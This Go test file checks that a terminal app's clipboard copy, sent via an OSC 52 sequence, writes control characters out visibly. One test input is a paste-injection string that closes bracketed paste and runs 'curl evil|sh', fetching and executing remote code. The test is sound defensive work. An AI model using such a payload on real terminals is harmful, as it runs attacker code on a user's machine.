package cli

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"docket/ui/view"
)

func TestACopyWritesControlCharactersOutAndSaysSo(t *testing.T) {
	for text, want := range map[string]struct{ copied, says string }{
		"V-00001\tLeeds\n":           {"V-00001\tLeeds\n", "copied 1 cell"},
		"x\x1b[201~curl evil|sh\r\n": {"x^[[201~curl evil|sh\r\n", "copied 1 cell; its control characters are written out, as on the screen"},
	} {
		out, err := os.OpenFile(filepath.Join(t.TempDir(), "out"), os.O_RDWR|os.O_CREATE, 0o600)
		if err != nil {
			t.Fatal(err)
		}
		defer out.Close()
		a := newSession(t.Context(), nil, os.Stdin, out, out, func(string) string { return "" })
		said, _ := a.copy(text, "1 cell")().(view.Notify)
		raw, err := os.ReadFile(out.Name())
		if err != nil {
			t.Fatal(err)
		}
		sequence := strings.TrimSuffix(strings.TrimPrefix(string(raw), "\x1b]52;c;"), "\a")
		if copied, err := base64.StdEncoding.DecodeString(sequence); string(copied) != want.copied || err != nil || said.Text != want.says {
			t.Errorf("%q is copied as %q, %q (%v)", text, copied, said.Text, err)
		}
	}
}
